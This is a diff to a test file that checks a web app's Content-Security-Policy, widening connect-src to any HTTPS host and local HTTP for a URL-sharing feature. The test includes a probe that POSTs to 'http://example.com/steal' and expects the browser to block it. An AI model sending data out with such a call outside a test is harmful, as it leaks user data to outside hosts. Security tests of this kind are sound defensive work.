@@ -92,7 +92,8 @@ test('the Content-Security-Policy forbids inline scripts and foreign connections
   const firstPaintHash = `'sha256-${createHash('sha256').update(inline[0]).digest('base64')}'`;
   const sources = directive('script-src').split(/\s+/).slice(1);
   assert.deepEqual(sources, ["'self'", "'wasm-unsafe-eval'", firstPaintHash], `script-src allows only the site's files, wasm and first-paint.js: ${csp}`);
-  assert.equal(directive('connect-src'), "connect-src 'self'", csp);
+  // `#url=` (docs/SHARING.md, "Open from a URL"): HTTPS anywhere, plain HTTP to this computer only.
+  assert.equal(directive('connect-src'), "connect-src 'self' https: http://localhost:* http://127.0.0.1:*", csp);
   assert.match(directive('default-src'), /^default-src 'self'$/, csp);
   assert.equal(directive('object-src'), "object-src 'none'", csp);
 
@@ -108,10 +109,10 @@ test('the Content-Security-Policy forbids inline scripts and foreign connections
     div.setAttribute('onclick', 'window.__handler = 1');
     document.body.appendChild(div);
     div.click();
-    // A connection to another origin.
+    // A connection to another origin over plain HTTP (HTTPS is allowed for `#url=`).
     let fetched = 'allowed';
     try {
-      await fetch('https://example.com/steal', { method: 'POST', body: 'x' });
+      await fetch('http://example.com/steal', { method: 'POST', body: 'x' });
     } catch (e) {
       fetched = 'blocked';
     }
